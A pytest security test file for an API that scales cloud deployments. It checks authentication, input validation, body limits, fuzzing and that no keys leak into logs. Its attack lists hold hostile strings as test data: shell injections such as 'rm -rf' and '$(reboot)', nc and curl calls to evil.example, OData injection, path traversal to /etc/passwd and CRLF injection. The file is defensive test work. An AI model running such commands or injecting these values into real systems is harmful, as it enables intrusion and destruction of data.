"""The HTTP API under attack: no key no mutation, every name and free-text field guarded, bodies bounded,
no 5xx under fuzzing, and no key or token in logs or audit rows.

Every attack string tried is in the lists below. Names (project, namespace, deployment, target) are
refused with 4xx before any lookup; free text (`reason`) is data: control characters are refused, and
quotes or shell metacharacters are stored verbatim and never interpreted (no filter or shell sees them).
"""

from __future__ import annotations

import base64
import logging
import urllib.parse
from datetime import UTC, datetime, timedelta

import pytest
import schemathesis
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, settings

from emulator.server import TOKEN
from scaling.api.auth import AuthConfig
from scaling.api.service import ApiService
from scaling.clusters import clients
from scaling.clusters.clients import StaticTokenCredential
from scaling.page.app import create_app
from scaling.settings import Settings
from tests.fixtures.api_world import AUTH as WORLD_AUTH
from tests.fixtures.api_world import KEY as WORLD_KEY
from tests.fixtures.azurite import ACCOUNT_KEY
from tests.fixtures.status_fakes import FakeBackend, sample_backend

UTC = UTC
NOW = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)  # Tuesday, project-a is up
KEY = "sec-Key_4f1c9a7e2b"
FUNCTION_KEY = "fnkey-9d8c7b6a5f4e"
AUTH = {"Authorization": f"Bearer {KEY}"}
MUTATIONS = ("save_override", "delete_override", "record_override", "reconcile", "release")


class RecordingBackend(FakeBackend):
    """The in-memory backend, counting every call by name (mutations are what must never happen unauthorised)."""

    def __init__(self) -> None:
        super().__init__()
        self.reset()

    def reset(self) -> None:
        base = sample_backend()
        for name in base.__dataclass_fields__:
            setattr(self, name, getattr(base, name))
        self.called: list[str] = []

    def __getattribute__(self, name: str):
        value = object.__getattribute__(self, name)
        if callable(value) and not name.startswith("_") and name in (*MUTATIONS, "load_projects", "observe"):
            object.__getattribute__(self, "called").append(name)
        return value

    def check_cluster(self, *args) -> None:
        return None

    @property
    def mutations(self) -> list[str]:
        return [c for c in self.called if c in MUTATIONS]


def make(
    backend: RecordingBackend, *, api_key: str | None = KEY, behind_host: bool = False, trust_principal: bool = False
) -> TestClient:
    app = create_app(
        lambda: ApiService(backend),
        Settings(api_key=api_key),
        clock=lambda: NOW,
        auth=AuthConfig(api_key=api_key, behind_functions_host=behind_host, trust_principal_header=trust_principal),
    )
    return TestClient(app, raise_server_exceptions=False)


_shared = RecordingBackend()


@pytest.fixture(scope="module")
def client():
    """One app for the module (building one per test costs more than the test); `backend` resets it."""
    with make(_shared) as c:
        yield c


@pytest.fixture
def backend(client) -> RecordingBackend:
    _shared.reset()
    return _shared


def operations() -> list[tuple[str, str]]:
    spec = make(RecordingBackend()).app.openapi()
    return [(method.upper(), path) for path, ops in spec["paths"].items() for method in ops]


def concrete(path: str) -> str:
    return path.replace("{namespace}", "project-a").replace("{name}", "sample-app-a").replace("{project}", "project-a")


VALID_BODY = {"reason": "maintenance", "replicas": 1, "action": "down"}
PROTECTED = [(m, p) for m, p in operations() if p.startswith("/api/")]
# notify-test sends messages but changes no state (it is in PROTECTED: without the key it is refused too).
MUTATING = [(m, p) for m, p in PROTECTED if m in ("POST", "PUT", "PATCH", "DELETE") and not p.endswith("notify-test")]


def call(client, method: str, path: str, headers=None, body=None):
    body = VALID_BODY if body is None else body
    kwargs = {"json": {k: v for k, v in body.items() if k in needed(path)}} if method == "POST" else {}
    return client.request(method, path, headers=headers or {}, **kwargs)


def needed(path: str) -> set[str]:
    if path.endswith("scale-up"):
        return {"reason", "replicas"}
    if path.endswith("override"):
        return {"reason", "action"}
    return {"reason"}


# -- no key, no mutation ---------------------------------------------------------------------------


def test_the_api_has_mutating_endpoints_to_protect():
    assert len(MUTATING) >= 4 and len(PROTECTED) >= 9


@pytest.mark.parametrize("method, path", PROTECTED, ids=[f"{m} {p}" for m, p in PROTECTED])
@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer wrong"},
        {"X-API-Key": KEY.upper()},
        {"Authorization": f"Basic {KEY}"},
        {"Authorization": f"Bearer {KEY[:-1]}"},
        {"X-MS-CLIENT-PRINCIPAL-NAME": "admin@contoso.com"},  # not trusted unless App Service auth is on
        {"x-functions-key": FUNCTION_KEY},  # only the Functions host can check that one
    ],
    ids=["none", "wrong", "case", "basic", "prefix", "untrusted-principal", "function-key-header"],
)
def test_every_api_endpoint_refuses_a_caller_without_the_key_and_touches_nothing(
    backend, client, method, path, headers
):
    response = call(client, method, concrete(path), headers)
    assert response.status_code == 401, response.text
    assert backend.called == []


@pytest.mark.parametrize("method, path", MUTATING, ids=[f"{m} {p}" for m, p in MUTATING])
def test_no_endpoint_mutates_without_a_key_when_none_is_configured_outside_functions(method, path):
    backend = RecordingBackend()
    with make(backend, api_key=None) as c:
        assert call(c, method, concrete(path)).status_code == 401
    assert backend.mutations == []


def test_a_key_in_the_query_string_is_not_accepted_by_the_app(backend, client):
    response = client.post(f"/api/v1/projects/project-a/override?code={KEY}", json={"action": "down", "reason": "x"})
    assert response.status_code == 401 and backend.mutations == []


@pytest.mark.parametrize("method, path", MUTATING, ids=[f"{m} {p}" for m, p in MUTATING])
def test_with_the_key_the_same_calls_get_through(backend, client, method, path):
    response = call(client, method, concrete(path), AUTH)
    assert response.status_code < 400 or response.status_code == 404, response.text  # DELETE of nothing: 404
    assert backend.mutations or response.status_code == 404


# -- names: refused before any lookup ----------------------------------------------------------------

NAME_ATTACKS = [
    "a' or '1' eq '1",  # OData filter injection
    "x') or (PartitionKey ne '",
    "a;rm -rf ~",  # shell metacharacters that would reach run-command
    "$(reboot)",
    "`id`",
    "a|nc evil.example 4444",
    "a&&curl evil.example",
    "a>$HOME/x",
    "%2e%2e",  # traversal, double encoded
    "..\\..\\windows",
    "ｐｒｏｊｅｃｔ-a",  # full-width look-alike
    "project-a\u202e",  # right-to-left override
    "project\u200b-a",  # zero width space
    "Project-A",
    "a" * 300,
    "a\x00b",
    "a\r\nX-Injected: 1",
    "*",
    "-rf",
    "a b",
    "project-a\n",  # a trailing newline: `$` in a pattern matches before it, only a full match refuses it
]
NAME_PATHS = [
    ("POST", "/api/v1/deployments/{x}/sample-app-a/scale-to-zero"),
    ("POST", "/api/v1/deployments/project-a/{x}/scale-to-zero"),
    ("POST", "/api/v1/deployments/{x}/sample-app-a/scale-up"),
    ("POST", "/api/v1/deployments/project-a/{x}/scale-up"),
    ("GET", "/api/v1/deployments/{x}/sample-app-a/status"),
    ("GET", "/api/v1/deployments/project-a/{x}/status"),
    ("GET", "/api/v1/projects/{x}"),
    ("POST", "/api/v1/projects/{x}/override"),
    ("DELETE", "/api/v1/projects/{x}/override"),
    ("GET", "/api/v1/projects/{x}/plan"),
]


@pytest.mark.parametrize("attack", NAME_ATTACKS, ids=range(len(NAME_ATTACKS)))
@pytest.mark.parametrize("method, template", NAME_PATHS, ids=[f"{m} {t}" for m, t in NAME_PATHS])
def test_an_attack_in_a_path_name_is_4xx_and_touches_nothing(backend, client, method, template, attack):
    path = template.replace("{x}", urllib.parse.quote(attack, safe=""))
    response = call(client, method, path, AUTH)
    assert 400 <= response.status_code < 500, response.text
    assert backend.mutations == [] and "load_projects" not in backend.called


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/v1/projects/../../etc/passwd"),
        ("POST", "/api/v1/deployments/project-a/../../x/scale-up"),
        ("GET", "/api/v1/projects/project-a/..%2f..%2fhealth"),
        ("GET", "/api/v1/deployments/project-a/sample-app-a%2F..%2F..%2Fsecret/status"),
    ],
)
def test_path_traversal_finds_no_endpoint(backend, client, method, path):
    assert 400 <= call(client, method, path, AUTH).status_code < 500
    assert backend.mutations == []


QUERY_ATTACKS = [
    "/api/v1/audit?project=a%27%20or%20%27%27%3D%27",
    "/api/v1/audit?project=%24(reboot)",
    "/api/v1/audit?limit=-1",
    "/api/v1/audit?limit=1000000000",
    "/api/v1/audit?since=yesterday",
    "/api/v1/audit?until=2026-01-01T00:00:00",
    "/api/v1/audit?continuation=%27%20or%201%20eq%201",
    "/api/v1/audit?continuation=NQ==",  # base64 of 5: JSON, but not a [partition, row key] pair
    "/api/v1/audit?continuation=bnVsbA==",  # base64 of null
    "/api/v1/audit?until=0001-01-20T00:00:00Z",  # its default window starts before year 1
    "/api/v1/audit?since=9999-12-01T00:00:00Z",
    "/api/v1/projects/project-a/plan?days=0",
    "/api/v1/projects/project-a/plan?days=99999",
    "/api/v1/projects/project-a/plan?days=7%3Brm",
    "/api/v1/report?month=2026-13",
    "/api/v1/report?month=2026-11%27",
    "/api/v1/report?month=2026-11&zone=..%2F..%2Fetc%2Fpasswd",
    "/api/v1/report?month=2026-11&format=sh",
]


@pytest.mark.parametrize("path", QUERY_ATTACKS)
def test_an_attack_in_a_query_parameter_is_400(backend, client, path):
    response = client.get(path, headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


@pytest.mark.parametrize(
    "query",
    [
        "continuation=NQ==",
        "continuation=bnVsbA==",
        "continuation=WyJhIl0=",  # 5, null, ["a"]
        "continuation=" + base64.urlsafe_b64encode(b"[" * 1400).decode(),  # nested deeper than the JSON parser goes
        "until=0001-01-20T00:00:00Z",
        "since=9999-12-01T00:00:00Z",
        "project=project-a&until=0001-01-20T00:00:00Z",
    ],
    ids=["five", "null", "one-element", "deep", "year-1", "year-9999", "project-year-1"],
)
def test_a_bad_audit_query_is_400_over_the_real_audit_table(world, query):
    response = world.client.get(f"/api/v1/audit?{query}", headers=WORLD_AUTH)
    assert response.status_code == 400, response.text


@pytest.mark.parametrize(
    "target",
    [
        "deployment/../../x",
        "deployment/a;b",
        "pod/x",
        "deployment/a' or '1",
        "deployment/$(id)",
        "deployment/ａ",
    ],
)
def test_an_attack_in_the_override_target_is_400(backend, client, target):
    response = client.delete(f"/api/v1/projects/project-a/override?target={urllib.parse.quote(target)}", headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


# -- bodies --------------------------------------------------------------------------------------------

SCALE_UP = "/api/v1/deployments/project-a/sample-app-a/scale-up"
OVERRIDE = "/api/v1/projects/project-a/override"


@pytest.mark.parametrize(
    "body",
    [
        {"replicas": "1; rm -rf /", "reason": "x"},
        {"replicas": -1, "reason": "x"},
        {"replicas": 10**12, "reason": "x"},
        {"replicas": 1.5, "reason": "x"},
        {"replicas": True, "reason": "x"},
        {"replicas": None, "reason": "x"},
        {"replicas": [1], "reason": "x"},
        {"replicas": {"$gt": 0}, "reason": "x"},
        {"replicas": 1, "reason": "x", "until": "tomorrow"},
        {"replicas": 1, "reason": "x", "until": "2026-11-24T18:00:00"},
        {"replicas": 1, "reason": "x", "until": "2026-11-24T18:00:00Z'; drop"},
        {"replicas": 1, "reason": "x", "until": 1e20},
        {"replicas": 1},
    ],
    ids=range(13),
)
def test_an_attack_in_a_scale_up_body_field_is_400(backend, client, body):
    response = client.post(SCALE_UP, json=body, headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


@pytest.mark.parametrize(
    "extra", [{"command": "sh -c id"}, {"__proto__": {"admin": True}}, {"replicas ": 100}], ids=range(3)
)
def test_an_unknown_scale_up_field_is_ignored_and_named_never_used(backend, client, extra):
    response = client.post(SCALE_UP, json={"replicas": 1, "reason": "x", **extra}, headers=AUTH)
    assert response.status_code == 200, response.text  # the reference ignores fields it does not know
    [name] = extra
    assert response.json()["warnings"] == [f"body field {name} is not a field of this endpoint: ignored"]
    assert response.json()["deployment"]["target_replicas"] == 1


@pytest.mark.parametrize("action", ["up; rm -rf /", "UP", "delete", "", None, 1, ["up"]])
def test_an_override_action_other_than_up_or_down_is_400(backend, client, action):
    assert client.post(OVERRIDE, json={"action": action, "reason": "x"}, headers=AUTH).status_code == 400
    assert backend.mutations == []


@pytest.mark.parametrize(
    "reason",
    [
        "",
        " ",
        "\t",
        "x" * 501,
        "a\x00b",
        "\x1b[31mred",
        "line\r\nForged: entry",
        "bell\x07",
        "del\x7f",
        "a\tb",
        "c1\x85next line",
        "csi\x9b31mred",
    ],
    ids=["empty", "space", "tab", "too-long", "nul", "ansi", "crlf", "bell", "del", "inner-tab", "c1-nel", "c1-csi"],
)
def test_a_reason_that_is_empty_too_long_or_has_control_characters_is_400(backend, client, reason):
    response = client.post(OVERRIDE, json={"action": "down", "reason": reason}, headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


@pytest.mark.parametrize(
    "reason",
    [
        "demo over; it's late",
        "a' or '1' eq '1",
        "$(reboot) `id` | nc",
        "../../etc/passwd",
        "Wartung – Größenänderung 🚀",
        "x" * 500,
        "pairing 👩\u200d💻 session",  # the joiner inside an emoji
    ],
)
def test_quotes_and_shell_characters_in_a_reason_are_kept_as_data_verbatim(backend, client, reason):
    response = client.post(OVERRIDE, json={"action": "down", "reason": reason}, headers=AUTH)
    assert response.status_code == 200, response.text
    assert [o.reason for o in backend.overrides_] == [reason]
    assert [row.reason for row in backend.audit_rows if row.action == "override-set"] == [reason]


@pytest.mark.parametrize("mark", ["\u202e", "\u2066"], ids=["rlo", "lri"])
def test_a_reason_with_bidi_controls_is_400_as_they_can_spoof_the_audit_view(backend, client, mark):
    response = client.post(OVERRIDE, json={"action": "down", "reason": f"ok {mark}decnalab"}, headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


@pytest.mark.parametrize(
    "reason",
    [
        "approved\u200b by ops",
        "ok\u2060x",
        "\ufeffboot",
        "soft\u00adhyphen",
        "one\u2028Forged: entry",
        "one\u2029two",
        "tag\U000e0041",
    ],
    ids=["zero-width-space", "word-joiner", "bom", "soft-hyphen", "line-separator", "paragraph-separator", "tag"],
)
def test_a_reason_with_invisible_format_or_separator_characters_is_400(backend, client, reason):
    response = client.post(OVERRIDE, json={"action": "down", "reason": reason}, headers=AUTH)
    assert response.status_code == 400, response.text
    assert "body field reason" in response.json()["error"]
    assert backend.mutations == []


@pytest.mark.parametrize(
    "reason",
    ["\u200b", "\u200d", " \u3164 ", "\u2800", "\u0301"],
    ids=["zero-width-space", "joiner", "hangul-filler", "braille-blank", "combining-mark"],
)
def test_a_reason_without_a_visible_character_is_400(backend, client, reason):
    response = client.post(OVERRIDE, json={"action": "down", "reason": reason}, headers=AUTH)
    assert response.status_code == 400, response.text
    assert backend.mutations == []


@pytest.mark.parametrize(
    "content, status",
    [
        (b"{" + b" " * (64 * 1024) + b"}", 413),
        (b'{"reason": "' + b"x" * (10 * 1024 * 1024) + b'"}', 413),
        (b"[" * 30000, 400),  # deep nesting, under the size limit
        (b'{"replicas": 1' + b"0" * 4000 + b', "reason": "x"}', 400),  # a 4,000-digit integer
        (b'{"replicas": NaN, "reason": "x"}', 400),
        (b'{"replicas": Infinity, "reason": "x"}', 400),
        (b"\xff\xfe{}", 400),
        (b"", 400),
    ],
    ids=["64k", "10m", "nested", "bigint", "nan", "infinity", "binary", "empty"],
)
def test_huge_deep_or_malformed_bodies_are_refused_without_a_5xx(backend, client, content, status):
    response = client.post(SCALE_UP, content=content, headers={**AUTH, "content-type": "application/json"})
    assert response.status_code == status, response.text[:200]
    assert backend.mutations == []


# -- fuzzing the OpenAPI with the key ------------------------------------------------------------------

_fuzz_backend = RecordingBackend()
schema = schemathesis.openapi.from_asgi("/openapi.json", make(_fuzz_backend).app)


@schema.parametrize()
@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
def test_fuzzing_every_operation_with_the_key_finds_no_5xx(case):
    response = case.call(headers=AUTH)
    if case.path == "/ready":
        assert response.status_code in (200, 503, 405)
    else:
        assert response.status_code < 500, f"{case.method} {case.formatted_path}: {response.text[:300]}"


# -- secrets never in logs ----------------------------------------------------------------------------


def test_keys_sent_every_way_never_reach_a_log_line_or_an_audit_row(caplog):
    backend = RecordingBackend()
    caplog.set_level(logging.DEBUG)
    with make(backend, trust_principal=True) as c:
        c.post(OVERRIDE, json={"action": "down", "reason": "by key"}, headers=AUTH)
        c.post(OVERRIDE, json={"action": "down", "reason": "by x-api-key"}, headers={"X-API-Key": KEY})
        c.post(f"{OVERRIDE}?code={FUNCTION_KEY}", json={"action": "down", "reason": "q"}, headers=AUTH)
        c.get(f"/api/v1/projects?code={FUNCTION_KEY}", headers={"x-functions-key": FUNCTION_KEY, **AUTH})
        c.get("/api/v1/projects", headers={"Authorization": f"Bearer {KEY}x"})  # wrong key, logged as 401
        c.get("/api/v1/projects", headers={"X-API-Key": f"{KEY}-nope"})
        c.post(
            OVERRIDE,
            json={"action": "down", "reason": "by principal"},
            headers={"X-MS-CLIENT-PRINCIPAL-NAME": "ops@contoso.com"},
        )
    assert len(backend.audit_rows) == 4
    # httpx is the test's own client logging the URL it sent; everything else is the app.
    logged = "\n".join(f"{r.getMessage()} {vars(r)}" for r in caplog.records if r.name != "httpx")
    audited = "\n".join(repr(row) for row in backend.audit_rows)
    for secret in (KEY, FUNCTION_KEY):
        assert secret not in logged
        assert secret not in audited
    assert {row.actor for row in backend.audit_rows} == {"api-key", "ops@contoso.com"}


# -- with the real backend: Table Storage, ARM and Kubernetes calls all logged at DEBUG ---------------------


def test_no_api_key_token_or_account_key_reaches_a_log_line_or_an_audit_row_of_the_real_backend(
    world, caplog, monkeypatch
):
    monkeypatch.setattr(clients, "ARM_BACKOFF", 0.01)  # the failing PUTs below retry quickly
    caplog.set_level(logging.DEBUG)  # every logger: azure.core's HTTP log, urllib3, kubernetes, ours
    c = world.client
    assert (
        c.post(
            "/api/v1/projects/project-a/override", json={"action": "down", "reason": "cost review"}, headers=WORLD_AUTH
        ).status_code
        == 200
    )  # applied at once: ARM and Kubernetes writes
    assert (
        c.post(
            "/api/v1/deployments/project-a/sample-app-a/scale-up",
            json={"replicas": 2, "reason": "demo"},
            headers={"X-API-Key": WORLD_KEY},
        ).status_code
        == 200
    )
    c.get(f"/api/v1/projects?code={FUNCTION_KEY}", headers={**WORLD_AUTH, "x-functions-key": FUNCTION_KEY})
    c.get("/api/v1/projects", headers={"Authorization": f"Bearer {WORLD_KEY}-wrong"})
    world.emulator.fail(500, service="arm", method="PUT", route="*agentPools/{pool}")
    world.emulator.fail(403, service="kube", method="PATCH")
    c.delete("/api/v1/projects/project-a/override", headers=WORLD_AUTH)
    world.tick(hours=9)  # evening: scale-downs fail at ARM and Kubernetes, with their error texts audited
    rows, _ = world.context.audit.query(since=world.clock.now - timedelta(days=1), limit=1000, now=world.clock.now)
    assert any(r.result.value == "failed" for r in rows) and any(r.actor == "api-key" for r in rows)
    logged = "\n".join(f"{r.getMessage()} {vars(r)}" for r in caplog.records if r.name != "httpx")
    audited = "\n".join(repr(r) for r in rows)
    assert "PATCH" in logged or "PUT" in logged  # the SDKs' HTTP logging was captured
    for secret in (WORLD_KEY, FUNCTION_KEY, ACCOUNT_KEY, TOKEN, StaticTokenCredential().get_token("x").token):
        assert secret not in logged, secret
        assert secret not in audited, secret
